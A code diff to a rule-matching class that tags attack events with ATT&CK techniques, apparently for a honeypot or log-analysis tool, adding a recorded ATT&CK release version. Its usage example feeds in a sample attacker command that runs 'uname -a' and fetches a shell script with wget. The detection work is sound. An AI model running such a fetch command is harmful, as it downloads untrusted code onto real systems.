@@ -69,15 +69,19 @@ export function tagId(logId: number, ruleId: string, technique: string): string 
 /** Matches events against a rule set. Stateless after construction; share one per worker. */
 export class Matcher {
   readonly #byField = new Map<RuleField, {index: LiteralIndex; rules: CompiledRule[]}>()
+  /** The ATT&CK release the rules were checked against, recorded on every tag (null: unknown). */
+  readonly attackVersion: null | string
 
   /**
    * @example
    * ```ts
-   * const matcher = new Matcher((await loadRules()).rules)
+   * const {rules, attackVersion} = await loadRules()
+   * const matcher = new Matcher(rules, {attackVersion})
    * matcher.tags(row, {command: 'uname -a; wget http://x/y.sh'})
    * ```
    */
-  constructor(rules: readonly CompiledRule[]) {
+  constructor(rules: readonly CompiledRule[], options: {attackVersion?: string} = {}) {
+    this.attackVersion = options.attackVersion ?? null
     const byField = new Map<RuleField, CompiledRule[]>()
     for (const rule of rules) {
       let list = byField.get(rule.field)
@@ -145,6 +149,7 @@ export class Matcher {
       for (const {evidence, rule} of this.hits(field, text)) {
         for (const emit of rule.emits) {
           tags.push({
+            attack_version: this.attackVersion,
             attacker_ip: event.attacker_ip,
             confidence: emit.confidence ?? rule.confidence,
             evidence,
